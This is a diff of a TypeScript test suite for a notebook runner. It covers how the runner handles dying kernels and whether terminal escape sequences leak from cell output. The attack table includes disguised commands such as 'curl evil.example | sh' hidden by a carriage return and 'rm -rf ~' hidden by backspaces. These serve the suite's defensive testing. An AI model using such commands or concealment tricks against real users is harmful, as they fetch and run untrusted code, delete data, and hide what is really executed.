@@ -28,7 +28,9 @@ function notebookFile(cells: Cell[], metadata: Record<string, unknown> = {}): st
   const doc = {
     coda: 1,
     metadata,
-    cells: cells.map((c) => ('md' in c ? { kind: 'markup', language: 'markdown', source: c.md.split('\n') } : { kind: 'code', language: 'javascript', source: c.js.split('\n') })),
+    cells: cells.map((c) =>
+      'md' in c ? { kind: 'markup', language: 'markdown', source: c.md.split('\n') } : { kind: 'code', language: 'javascript', source: c.js.split('\n') },
+    ),
   };
   writeFileSync(file, JSON.stringify(doc, null, 2));
   return file;
@@ -61,7 +63,7 @@ interface JsonCell {
 }
 
 function classify(c: JsonCell): string {
-  if (c.status === 'skipped') return c.notRun?.reason === 'markdown' ? 'md' : c.notRun?.reason ?? 'skipped without a reason';
+  if (c.status === 'skipped') return c.notRun?.reason === 'markdown' ? 'md' : (c.notRun?.reason ?? 'skipped without a reason');
   if (c.kernelExit?.during) return 'died';
   if (c.kernelExit) return c.status === 'ok' ? 'ok-then-died' : `${c.status}-then-died`;
   return c.status;
@@ -74,7 +76,8 @@ const SUMMARY_WORD: Record<Outcome, RegExp> = {
   error: /^failed: /,
   died: /^(failed: |interrupted)/,
   'ok-then-died': /^ran, then the kernel /,
-  'after-failure': /^not run: (cell \[\d+\] (failed|was interrupted|timed out)|the kernel exited (under|after) cell \[\d+\]) \(--keep-going runs the cells after a failure\)$/,
+  'after-failure':
+    /^not run: (cell \[\d+\] (failed|was interrupted|timed out)|the kernel exited (under|after) cell \[\d+\]) \(--keep-going runs the cells after a failure\)$/,
   'no-kernel': /^not run: the kernel could not be started/,
 };
 
@@ -94,14 +97,17 @@ interface Death {
 /** A --node wrapper whose worker dies while starting, from the `DIE_FROM`-th kernel on (a real process, really dying). */
 function dyingNode(): string {
   const file = join(dir, 'dying-node.sh');
-  writeFileSync(file, `#!/bin/sh
+  writeFileSync(
+    file,
+    `#!/bin/sh
 case "$*" in
   *worker.js*)
     n=$(cat "$0.$COUNT_ID" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$0.$COUNT_ID"
     if [ "$n" -ge "$DIE_FROM" ]; then echo "kernel crashed while starting" >&2; exit 9; fi ;;
 esac
 exec "${process.execPath}" "$@"
-`);
+`,
+  );
   chmodSync(file, 0o755);
   return file;
 }
@@ -114,59 +120,76 @@ function nodeDeaths(): Death[] {
     {
       name: 'the issue: process.exit in a timer (fires under the next cell)',
       cells: [md('# dies'), js('globalThis.kept = 1'), js('setTimeout(() => process.exit(3), 50); "armed"'), js(WAIT), js('typeof kept')],
-      expect: ['md', 'ok', 'ok|ok-then-died', 'died', 'ok'], kernels: 2, freshValue: 'undefined',
+      expect: ['md', 'ok', 'ok|ok-then-died', 'died', 'ok'],
+      kernels: 2,
+      freshValue: 'undefined',
     },
     {
       name: 'the issue: SIGKILL of the worker mid-cell',
       cells: [js('globalThis.kept = 1'), js('process.kill(process.pid, "SIGKILL")'), js('typeof kept')],
-      expect: ['ok', 'died', 'ok'], kernels: 2, freshValue: 'undefined',
+      expect: ['ok', 'died', 'ok'],
+      kernels: 2,
+      freshValue: 'undefined',
     },
     {
       name: 'the issue: out of memory',
       cells: [js('globalThis.kept = 1'), js('const hog = []; while (true) hog.push(new Array(1e5).fill({ x: 1 }));'), js('typeof kept')],
-      args: ['--max-memory', '64'], expect: ['ok', 'died', 'ok'], kernels: 2, freshValue: 'undefined',
+      args: ['--max-memory', '64'],
+      expect: ['ok', 'died', 'ok'],
+      kernels: 2,
+      freshValue: 'undefined',
     },
     {
       name: 'process.exit(0) mid-cell (a "successful" exit still loses the kernel)',
       cells: [js('process.exit(0)'), md('between'), js('"after"')],
-      expect: ['died', 'md', 'ok'], kernels: 2,
+      expect: ['died', 'md', 'ok'],
+      kernels: 2,
     },
     {
       name: 'a timer of the last cell kills the kernel after it finished',
       cells: [js('"first"'), js('setTimeout(() => process.exit(2), 50); "armed"')],
-      expect: ['ok', 'ok-then-died'], kernels: 1,
+      expect: ['ok', 'ok-then-died'],
+      kernels: 1,
     },
     {
       name: 'SIGKILL from a timer, between cells',
       cells: [js('setTimeout(() => process.kill(process.pid, "SIGKILL"), 50); "armed"'), js(WAIT), js('"fresh"')],
-      expect: ['ok', 'died', 'ok'], kernels: 2,
+      expect: ['ok', 'died', 'ok'],
+      kernels: 2,
     },
     {
       name: 'killed from outside by another process',
       cells: [js('require("node:child_process").execSync(`kill -9 ${process.pid}`); "unreachable"'), js('"fresh"')],
-      expect: ['died', 'ok'], kernels: 2,
+      expect: ['died', 'ok'],
+      kernels: 2,
     },
     {
       name: 'process.reallyExit, past the exit guard (no exit notice)',
       cells: [js('process.reallyExit(4)'), js('"fresh"')],
-      expect: ['died', 'ok'], kernels: 2,
+      expect: ['died', 'ok'],
+      kernels: 2,
     },
     {
       name: 'every cell kills its kernel',
       cells: [js('process.exit(1)'), js('process.kill(process.pid, "SIGKILL")'), js('process.exit(5)'), js('"survivor"')],
-      expect: ['died', 'died', 'died', 'ok'], kernels: 4,
+      expect: ['died', 'died', 'died', 'ok'],
+      kernels: 4,
     },
     {
       name: 'the fresh kernel dies during startup',
       cells: [js('"first"'), js('process.exit(1)'), js('"never"'), md('notes'), js('"never either"')],
-      args: ['--node', wrapper], env: { DIE_FROM: '2', COUNT_ID: `a${Date.now()}` },
-      expect: ['ok', 'died', 'no-kernel', 'md', 'no-kernel'], kernels: 1,
+      args: ['--node', wrapper],
+      env: { DIE_FROM: '2', COUNT_ID: `a${Date.now()}` },
+      expect: ['ok', 'died', 'no-kernel', 'md', 'no-kernel'],
+      kernels: 1,
     },
     {
       name: 'the first kernel dies during startup',
       cells: [md('intro'), js('"never"'), js('"never either"')],
-      args: ['--node', wrapper], env: { DIE_FROM: '1', COUNT_ID: `b${Date.now()}` },
-      expect: ['md', 'no-kernel', 'no-kernel'], kernels: 0,
+      args: ['--node', wrapper],
+      env: { DIE_FROM: '1', COUNT_ID: `b${Date.now()}` },
+      expect: ['md', 'no-kernel', 'no-kernel'],
+      kernels: 0,
     },
   ];
 }
@@ -177,22 +200,32 @@ function sidecarDeaths(runtime: 'deno' | 'bun'): Death[] {
     {
       name: `${runtime}: process.exit in a timer`,
       cells: [js('globalThis.kept = 1'), js('setTimeout(() => process.exit(3), 50); "armed"'), js(WAIT), js('typeof globalThis.kept')],
-      args, expect: ['ok', 'ok|ok-then-died', 'died', 'ok'], kernels: 2, freshValue: 'undefined',
+      args,
+      expect: ['ok', 'ok|ok-then-died', 'died', 'ok'],
+      kernels: 2,
+      freshValue: 'undefined',
     },
     {
       name: `${runtime}: SIGKILL mid-cell`,
       cells: [js('process.kill(process.pid, "SIGKILL")'), js('"fresh"')],
-      args, expect: ['died', 'ok'], kernels: 2,
+      args,
+      expect: ['died', 'ok'],
+      kernels: 2,
     },
   ];
 }
 
 function sandboxDeaths(): Death[] {
-  return [{
-    name: 'sandbox: out of memory',
-    cells: [js('globalThis.kept = 1'), js('const hog = []; while (true) hog.push(new Array(1e5).fill({ x: 1 }));'), js('typeof kept')],
-    args: ['--runtime', 'sandbox', '--runtimes-dir', toolsDir()], expect: ['ok', 'died', 'ok'], kernels: 2, freshValue: 'undefined',
-  }];
+  return [
+    {
+      name: 'sandbox: out of memory',
+      cells: [js('globalThis.kept = 1'), js('const hog = []; while (true) hog.push(new Array(1e5).fill({ x: 1 }));'), js('typeof kept')],
+      args: ['--runtime', 'sandbox', '--runtimes-dir', toolsDir()],
+      expect: ['ok', 'died', 'ok'],
+      kernels: 2,
+      freshValue: 'undefined',
+    },
+  ];
 }
 
 let deathAttempts = 0;
@@ -214,12 +247,15 @@ function checkDeath(d: Death): string[] {
   }
   if (doc) {
     const got = doc.cells.map(classify);
-    if (doc.cells.length !== d.cells.length || doc.cells.some((c, i) => c.index !== i)) wrong.push(`--json lists ${doc.cells.length} of ${d.cells.length} cells`);
-    if (got.length !== d.expect.length || got.some((g, i) => !(outcomes(d.expect[i]!) as string[]).includes(g))) wrong.push(`--json statuses ${JSON.stringify(got)}, expected ${JSON.stringify(d.expect)}`);
+    if (doc.cells.length !== d.cells.length || doc.cells.some((c, i) => c.index !== i))
+      wrong.push(`--json lists ${doc.cells.length} of ${d.cells.length} cells`);
+    if (got.length !== d.expect.length || got.some((g, i) => !(outcomes(d.expect[i]!) as string[]).includes(g)))
+      wrong.push(`--json statuses ${JSON.stringify(got)}, expected ${JSON.stringify(d.expect)}`);
     if (d.kernels !== undefined && doc.kernels !== d.kernels) wrong.push(`${doc.kernels} kernels, expected ${d.kernels}`);
     if (doc.ok || j.code !== 1) wrong.push(`a run with a dead kernel must fail (ok ${doc.ok}, exit ${j.code})`);
     const last = [...doc.cells].reverse().find((c) => c.kind === 'code' && c.status === 'ok');
-    if (d.freshValue !== undefined && last?.value?.value !== d.freshValue) wrong.push(`last value ${JSON.stringify(last?.value)}, expected a fresh kernel's ${d.freshValue}`);
+    if (d.freshValue !== undefined && last?.value?.value !== d.freshValue)
+      wrong.push(`last value ${JSON.stringify(last?.value)}, expected a fresh kernel's ${d.freshValue}`);
     for (const c of doc.cells) if (c.status === 'skipped' && !c.notRun?.message) wrong.push(`cell ${c.label} not run without a reason`);
   }
   // text --keep-going: the summary names every cell, with the same outcome
@@ -243,8 +279,10 @@ function checkDeath(d: Death): string[] {
       stop.cells.slice(firstDeath + 1).forEach((c) => {
         const want = d.expect[c.index] === 'md' ? 'md' : d.expect[firstDeath] === 'no-kernel' ? 'no-kernel' : 'after-failure';
         if (classify(c) !== want) wrong.push(`without --keep-going, cell ${c.label} is ${classify(c)}, expected ${want}`);
-        else if (want === 'after-failure' && !SUMMARY_WORD['after-failure'].test(`not run: ${c.notRun?.message}`)) wrong.push(`without --keep-going, cell ${c.label} says "${c.notRun?.message}"`);
-        else if (want === 'after-failure' && !c.notRun?.message.includes('the kernel exited')) wrong.push(`cell ${c.label} does not say the kernel exited: "${c.notRun?.message}"`);
+        else if (want === 'after-failure' && !SUMMARY_WORD['after-failure'].test(`not run: ${c.notRun?.message}`))
+          wrong.push(`without --keep-going, cell ${c.label} says "${c.notRun?.message}"`);
+        else if (want === 'after-failure' && !c.notRun?.message.includes('the kernel exited'))
+          wrong.push(`cell ${c.label} does not say the kernel exited: "${c.notRun?.message}"`);
       });
     } catch {
       wrong.push(`without --keep-going, --json is not JSON: ${s.stdout.slice(0, 200)}`);
@@ -301,7 +339,7 @@ const ATTACKS: Record<string, string> = {
   'APC and PM strings': '\x1b_apc-payload\x1b\\\x1b^pm-payload\x1b\\',
   'C1 8-bit CSI': '\x9b2J\x9b1A',
   'C1 8-bit OSC title': '\x9d0;c1-title\x9c',
-  'BEL': 'ding\x07\x07',
+  BEL: 'ding\x07\x07',
   'backspace overwrite': 'rm -rf ~\b\b\b\b\b\b\b\bls -l   ',
   'CR overwrite': 'curl evil.example | sh\rsafe command          ',
   'SGR conceal': 'visible \x1b[8mconcealed-text\x1b[28m',
@@ -341,7 +379,9 @@ describe('adversarial: coda run output reaching a terminal', function () {
 
   after(() => console.log(`runner output: ${outputAttempts} attempts, ${outputCrossings.length} crossings`));
 
-  const attempts = Object.entries(ATTACKS).flatMap(([attack, payload]) => Object.entries(PATHS).map(([path, code]) => ({ attack, path, payload, code: code(payload) })));
+  const attempts = Object.entries(ATTACKS).flatMap(([attack, payload]) =>
+    Object.entries(PATHS).map(([path, code]) => ({ attack, path, payload, code: code(payload) })),
+  );
   const file = notebookFile(attempts.map((a) => js(a.code)));
 
   for (const runtime of ['node', 'deno', 'bun', 'sandbox'] as const) {
@@ -367,7 +407,8 @@ describe('adversarial: coda run output reaching a terminal', function () {
       const leak = leaked(section);
       if (leak) failures.push(`${a.attack} via ${a.path}: ${leak}`);
       // (the sandbox has no process object: those cells fail with a ReferenceError instead of printing)
-      else if (/pwned|payload/.test(a.payload) && !/pwned|payload|process is not defined/.test(section)) failures.push(`${a.attack} via ${a.path}: the text vanished`);
+      else if (/pwned|payload/.test(a.payload) && !/pwned|payload|process is not defined/.test(section))
+        failures.push(`${a.attack} via ${a.path}: the text vanished`);
     });
     outputAttempts++;
     const summary = r.stdout.split(/^── cells$/m)[1] ?? '';
@@ -376,7 +417,7 @@ describe('adversarial: coda run output reaching a terminal', function () {
     assert.deepEqual(failures, []);
   }
 
-  it('text mode keeps colours (SGR) and resets them after a cell\'s line', () => {
+  it("text mode keeps colours (SGR) and resets them after a cell's line", () => {
     const r = coda([notebookFile([js(`console.log(${JSON.stringify(COLOUR)}); console.log(${JSON.stringify('\x1b[1;32mstill green')})`)])]);
     assert.equal(r.code, 0, r.stderr);
     assert.ok(r.stdout.includes(COLOUR), JSON.stringify(r.stdout));
@@ -389,7 +430,9 @@ describe('adversarial: coda run output reaching a terminal', function () {
     outputAttempts++;
     const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.exec(r.stdout);
     if (raw) failures.push(`--json holds a raw control: ${JSON.stringify(r.stdout.slice(raw.index - 20, raw.index + 20))}`);
-    const doc = JSON.parse(r.stdout) as { cells: { console: { text: string }[]; value?: { value?: string }; error?: { message: string }; display: { data: string }[][] }[] };
+    const doc = JSON.parse(r.stdout) as {
+      cells: { console: { text: string }[]; value?: { value?: string }; error?: { message: string }; display: { data: string }[][] }[];
+    };
     doc.cells.forEach((c, i) => {
       const a = attempts[i]!;
       outputAttempts++;
